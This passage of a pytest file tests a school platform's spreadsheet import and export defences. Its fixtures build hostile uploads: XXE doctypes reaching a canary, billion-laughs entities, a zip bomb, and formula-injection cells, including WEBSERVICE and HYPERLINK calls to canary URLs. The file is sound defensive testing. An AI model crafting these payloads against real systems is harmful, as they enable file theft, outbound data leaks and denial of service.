            "xl/sharedStrings.xml": f'<?xml version="1.0"?>\n{doctype}<sst {SHEET_NS}>{items}</sst>'.encode()}


def workbook_part(doctype: str) -> bytes:
    return (f'<?xml version="1.0"?>\n{doctype}<workbook {SHEET_NS} xmlns:r="{REL}"><sheets>'
            '<sheet name="目录" sheetId="1" r:id="rId1"/></sheets></workbook>').encode()


def sheet_bomb() -> ZipMember:
    """A worksheet part that inflates to 64 MiB at 1000:1, far past any real sheet's ratio (and a 16 MiB upload so
    made inflates to 16 GiB)."""
    return ZipMember("xl/worksheets/sheet1.xml", inflates_to=(b" ", 64))


DAMAGED = "无法读取这个 Excel 文件"
LINK = "https://basic.smartedu.cn/course/"
CATALOGUE_HEADER = ["资源标题", "链接", "资源简介"]


@dataclass(frozen=True)
class Imported:
    """Taken in whole, each title (and description) as the text it is."""
    rows: Callable[[Canary], list[tuple[str, str]]]  # (title, description) of each resource


@dataclass(frozen=True)
class NotImported:
    says: str  # the whole file refused with this, or a row error saying it; nothing is written


CATALOGUE_IMPORTS = {  # id: (file name, content, outcome)
    "xlsx_external_entity_in_the_sheet": ("目录.xlsx", lambda c: xlsx_bytes([], {
        "xl/worksheets/sheet1.xml": sheet_part(doctype_reaching_out("worksheet", c),
                                               [CATALOGUE_HEADER[:2], ["&secret;", LINK + "1"]])}), NotImported(DAMAGED)),
    "xlsx_external_entity_in_shared_strings": ("目录.xlsx", lambda c: xlsx_bytes([], with_shared_strings(
        doctype_reaching_out("sst", c), [*CATALOGUE_HEADER[:2], "&secret;", LINK + "1"], [["0", "1"], ["2", "3"]])),
        NotImported(DAMAGED)),
    "xlsx_remote_dtd_in_the_workbook": ("目录.xlsx", lambda c: xlsx_bytes(
        [CATALOGUE_HEADER[:2], ["勾股定理", LINK + "1"]],
        {"xl/workbook.xml": workbook_part(doctype_reaching_out("workbook", c))}),
        NotImported(DAMAGED)),
    "xlsx_billion_laughs": ("目录.xlsx", lambda c: xlsx_bytes([], {"xl/worksheets/sheet1.xml": sheet_part(
        billion_laughs("worksheet"), [CATALOGUE_HEADER[:2], ["&lol9;", LINK + "1"]])}), NotImported(DAMAGED)),
    "xlsx_zip_bomb": ("目录.xlsx", lambda c: xlsx_bytes([CATALOGUE_HEADER[:2]], {"xl/worksheets/sheet1.xml": sheet_bomb()}),
                      NotImported("疑似压缩炸弹")),
    "csv_formula_cells": ("目录.csv", lambda c: csv_bytes(
        [CATALOGUE_HEADER, *([f, f"{LINK}{n}", f] for n, f in enumerate(formulas(c)))]),
        Imported(lambda c: [(f.strip(), f.strip()) for f in formulas(c)])),
    "xlsx_formula_cells": ("目录.xlsx", lambda c: xlsx_bytes(
        [CATALOGUE_HEADER, *([f, f"{LINK}{n}", f] for n, f in enumerate(formulas(c))),
         ["勾股定理", LINK + "x", f'=WEBSERVICE("{c.url("webservice")}")']], formula_cells={"C9"}),
        # a real formula cell counts as the value it was last calculated to: here none
        Imported(lambda c: [*((f.strip(), f.strip()) for f in formulas(c)), ("勾股定理", "")])),
    "csv_formula_as_the_link": ("目录.csv", lambda c: csv_bytes(
        [CATALOGUE_HEADER, ["勾股定理", f'=HYPERLINK("{c.url("link")}")', ""]]), NotImported("链接应是完整的")),
}
def import_cases(cases: dict) -> list:
    return [pytest.param(case, channel, id=f"{case}-{channel}") for case in cases for channel in ("page", "cli")]


@pytest.mark.parametrize(("case", "channel"), import_cases(CATALOGUE_IMPORTS))
def test_hostile_catalogue_import(app, client, runner, district, canary, tmp_path, case, channel):
    name, make, outcome = CATALOGUE_IMPORTS[case]
    data = make(canary)
    outputs = []
    if channel == "page":
        login(client, "admin")
        page = client.post("/admin/import", data={"csrf_token": csrf_token(client, "/admin/import"),
                                                  "library": "district", "file": (io.BytesIO(data), name)})
        assert page.status_code in (200, 422)
        told = page.get_data(as_text=True)
    else:
        path = tmp_path / name
        path.write_bytes(data)
        result = runner.invoke(args=["import", str(path), "--as", "admin"])
        assert (result.exit_code == 0) == isinstance(outcome, Imported), result.output
        told = result.output
        outputs.append(told)
    db.session.expire_all()
    imported = db.session.execute(select(Resource.title, Resource.description).order_by(Resource.id)).all()
    if isinstance(outcome, Imported):
        assert [tuple(row) for row in imported] == outcome.rows(canary)
        if channel == "page":  # shown as text in the library, never as markup
            library_page = client.get("/library").get_data(as_text=True)
            assert str(escape(outcome.rows(canary)[0][0])) in library_page
    else:
        assert outcome.says in told and imported == []
    assert_untouched(canary, app, client, outputs=outputs)


ROSTER_HEADER = ["姓名", "学号/工号", "身份"]
ROSTER_IMPORTS = {
    "csv_formula_cells": ("花名册.csv", lambda c: csv_bytes(
        [ROSTER_HEADER, *([f, f, "学生"] for f in formulas(c))]), NotImported("请填写真实姓名")),
    "xlsx_formula_cells": ("花名册.xlsx", lambda c: xlsx_bytes(
        [ROSTER_HEADER, *(["赵一鸣", f, f] for f in formulas(c))]), NotImported("学号或工号为")),
    "xlsx_external_entity": ("花名册.xlsx", lambda c: xlsx_bytes([], {"xl/worksheets/sheet1.xml": sheet_part(
        doctype_reaching_out("worksheet", c), [ROSTER_HEADER, ["&secret;", "S1", "学生"]])}), NotImported(DAMAGED)),
    "xlsx_billion_laughs": ("花名册.xlsx", lambda c: xlsx_bytes([], {"xl/worksheets/sheet1.xml": sheet_part(
        billion_laughs("worksheet"), [ROSTER_HEADER, ["&lol9;", "S1", "学生"]])}), NotImported(DAMAGED)),
    "xlsx_zip_bomb": ("花名册.xlsx", lambda c: xlsx_bytes([ROSTER_HEADER], {"xl/worksheets/sheet1.xml": sheet_bomb()}),
                      NotImported("疑似压缩炸弹")),
}


@pytest.mark.parametrize(("case", "channel"), import_cases(ROSTER_IMPORTS))
def test_hostile_roster_import(app, client, runner, district, canary, tmp_path, case, channel):
    name, make, outcome = ROSTER_IMPORTS[case]
    data = make(canary)
    outputs = []
    if channel == "page":
        login(client, "admin.a")
        page = client.post("/admin/roster", data={"csrf_token": csrf_token(client, "/admin/roster"),
                                                  "file": (io.BytesIO(data), name)})
        told = page.get_data(as_text=True)
    else:
        path = tmp_path / name
        path.write_bytes(data)
        result = runner.invoke(args=["users", "import", str(path), "--school", district.school_a.name])
        assert result.exit_code != 0
        told = result.output
        outputs.append(told)
    assert outcome.says in told
    assert db.session.scalar(select(func.count()).select_from(RosterEntry)) == 0
    assert_untouched(canary, app, client, outputs=outputs)


# --- exports: what imports and registrations let in goes back out inert -------------------------------

FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")


def test_the_accounts_export_neutralises_formula_cells(app, client, district, canary):
    # Through the real paths: a roster number may start with "-" (a valid number), and a pupil registering
    # under it is matched with the roster and verified at once.
    login(client, "admin.a")
    roster = csv_bytes([ROSTER_HEADER, ["赵一鸣", "-2026-01", "学生"]])
    client.post("/admin/roster", data={"csrf_token": csrf_token(client, "/admin/roster"),
                                       "file": (io.BytesIO(roster), "花名册.csv")})
    client.post("/logout", data={"csrf_token": csrf_token(client, "/dashboard")})
    client.post("/register", data={"csrf_token": csrf_token(client, "/register"), "school_id": district.school_a.id,
                                   "real_name": "赵一鸣", "role": "student", "identifier": "-2026-01", "id_number": "",
                                   "username": "zhaoyiming", "password": PASSWORD, "confirm": PASSWORD, "agree": "y"})
    assert db.session.scalar(select(User.status).where(User.username == "zhaoyiming")) == "active"
    # And what no form lets in, as an old import or a restored backup may hold: every formula start, in
    # every text column the export writes.
    short = ["=1+2", "+86", "-2-3", "@SUM(1)", "\t=1", "\r=1", "=A1"]
    for n, formula in enumerate(formulas(canary)):
        district.user(f"{formula[:50]}{n}", {"student"}, district.school_a, identifier=short[n],
                      real_name=formula)
    db.session.commit()

    login(client, "admin.a")
    response = client.get("/admin/accounts/export")
    assert response.status_code == 200 and response.headers["Content-Disposition"].startswith("attachment")
    with zipfile.ZipFile(io.BytesIO(response.data)) as package:  # no formula anywhere, whatever reads it
        assert not [name for name in package.namelist() if name.startswith("xl/worksheets/")
                    and b"<f>" in package.read(name)]
    cells = [cell for row in load_workbook(io.BytesIO(response.data)).active.iter_rows() for cell in row]
    texts = [cell.value for cell in cells if isinstance(cell.value, str)]
    assert not [cell.coordinate for cell in cells if cell.data_type == "f"]
    assert not [text for text in texts if text.startswith(FORMULA_STARTS)]
    # Neutralised, not lost: each is there with a quote before it (a lone CR comes back as LF where the XML
    # writer leaves it raw, as itself where it writes &#13;, as lxml does).
    expected = ["'-2026-01", *("'" + formula for formula in formulas(canary)), *("'" + number for number in short)]
    assert not [text for text in expected if text not in texts and text.replace("\r", "\n") not in texts]
    assert_untouched(canary, app, client)
